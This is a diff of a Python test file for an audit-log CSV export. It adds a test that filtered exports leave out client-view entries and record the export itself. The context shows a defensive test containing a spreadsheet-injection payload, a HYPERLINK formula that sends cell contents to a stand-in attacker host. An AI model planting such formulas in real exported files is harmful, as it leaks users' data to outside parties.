@@ -87,6 +87,16 @@ def test_the_file_holds_the_filtered_entries_only(manager_client, logged):
     assert by_client[0]["details"] == '{"filters": {}, "rows": 4}'
 
 
+def test_the_file_leaves_the_views_out_when_the_log_does(manager_client, logged):
+    AuditEntry.objects.create(action=Action.CLIENT_VIEW, username="ada", client_ref="CL-1")
+    everything, _ = download(manager_client, "")
+    changes, _ = download(manager_client, "?action=not-views")
+    assert "client.view" in {row["action"] for row in everything}
+    # The first download is an entry of the second.
+    assert [row for row in everything if row["action"] != "client.view"] == changes[1:]
+    assert changes[0]["action"] == "export.audit"
+
+
 def test_every_cell_is_safe_to_open_in_a_spreadsheet(manager_client, manager):
     hyperlink = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
     entry(
